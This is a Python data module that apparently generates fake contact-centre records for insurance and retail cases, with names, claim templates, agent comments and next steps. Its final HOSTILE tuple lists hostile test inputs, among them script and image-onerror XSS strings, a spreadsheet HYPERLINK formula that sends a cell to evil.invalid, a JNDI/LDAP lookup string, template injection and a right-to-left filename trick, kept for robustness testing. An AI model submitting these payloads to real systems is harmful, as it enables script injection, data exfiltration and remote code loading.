"""What people in the simulated contact centres write: data, no code."""

from __future__ import annotations

FIRST_NAMES = (
    "Ana", "Bola", "Chen", "Dev", "Elif", "Femi", "Grace", "Hana", "Ines", "Jonas",
    "Kemi", "Luca", "Maya", "Nils", "Olu", "Priya", "Quinn", "Rosa", "Sam", "Tariq",
    "Uma", "Vera", "Wen", "Yara", "Zoe",
)  # fmt: skip
LAST_NAMES = (
    "Adler", "Brandt", "Costa", "Diallo", "Evans", "Fischer", "Garcia", "Haddad",
    "Ito", "Jansen", "Khan", "Larsen", "Mensah", "Novak", "Okafor", "Patel", "Quist",
    "Rossi", "Silva", "Tanaka", "Ueda", "Vargas", "Weber", "Yilmaz",
)  # fmt: skip

TEMPLATES = {
    "insurance": {
        "Home claim": (
            ("Water damage in the kitchen", "A pipe burst under the sink overnight."),
            ("Storm took roof tiles", "About twenty tiles are gone, rain comes in."),
            ("Break-in, bicycle stolen", "The police report will follow."),
            ("Fire alarm damaged by surge", "Lightning struck the street's mast."),
        ),
        "Motor claim": (
            ("Rear-end collision on the ring road", "Nobody was hurt. Two witnesses."),
            ("Windscreen cracked by a stone", "The crack grows by the day."),
            ("Parked car scratched", "No note was left. A camera may have seen it."),
        ),
        "Policy change": (
            ("Move house, new address from the 1st", "Same cover is wanted."),
            ("Add a young driver", "Licence held for three months."),
            ("Cancel after sale of the car", "Asks for the unused premium."),
        ),
        "Complaint": (
            ("Nobody called back for two weeks", "Third call about the same claim."),
            ("Premium went up by a third", "Asks why, in writing."),
        ),
    },
    "retail": {
        "Order problem": (
            ("Order never arrived", "Tracking has said 'out for delivery' for days."),
            ("Wrong size in the parcel", "Ordered M, received XL."),
            ("Two of three items missing", "The box had been opened."),
            ("Charged twice for one order", "Both charges show on the statement."),
        ),
        "Return": (
            ("Return label does not print", "The link shows an empty page."),
            ("Refund is late", "The parcel came back to us ten days ago."),
        ),
        "Product question": (
            ("Does the lamp fit an E27 bulb", "Wants to order six of them."),
            ("Spare blade for the mixer", "The model is from 2019."),
        ),
        "Complaint": (
            ("Courier left the parcel in the rain", "The book inside is ruined."),
            ("Rude answer in chat", "Asks for an apology and a voucher."),
        ),
    },
}
"""By kind of business and template: titles, each with a summary."""

COMMENTS = (
    "Called the customer, no answer. Will try again tomorrow.",
    "Customer sent photos, see the files.",
    "Spoke to the customer, who is happy with the next step.",
    "Waiting for the supplier's estimate.",
    "Checked the contract: covered, excess applies.",
    "Asked the team lead for approval.",
    "Voicemail left with the reference number.",
    "Payment has been released.",
    "Customer calls again and asks where it stands.",
    "Passed on, this needs somebody with access to billing.",
    "Got it by mistake, passing it back.",
    "Estimate is in: 1,240.00, within the limit.",
    "The address on file was wrong. Corrected.",
    "Nothing more to do from our side.",
)

NEXT_STEPS = (
    "Estimate requested.",
    "Photos received, estimate requested.",
    "Approved by the team lead.",
    "Customer to send the receipt.",
    "Refund announced to the customer.",
    "Second visit is planned.",
)

HOSTILE = (
    "<script>alert('case')</script>",
    '=HYPERLINK("http://evil.invalid/?"&A1,"refund")',
    "Price $5 and $\\alpha_1^2$ and 100%",
    "🔥🔥 urgent 👩‍👩‍👧 Zoë 漢字",
    "\u202egnp.eciovni\u202c is what the file is called",
    "שלום, איפה ההזמנה שלי?",
    "first line\nsecond line\r\n\tthird, after a tab",
    "control \x01 \x08 \x0b \x1f \x7f characters",
    "<img src=x onerror=alert(1)> & \"quotes\" 'too'",
    "+44 20 7946 0000 or @home or -1",
    "a zero\u200bwidth space and a soft\u00adhyphen",
    " leading and trailing blanks ",
    "{{ 7*7 }} ${jndi:ldap://evil.invalid} %s {0}",
)
"""What strangers have been known to type into a form."""
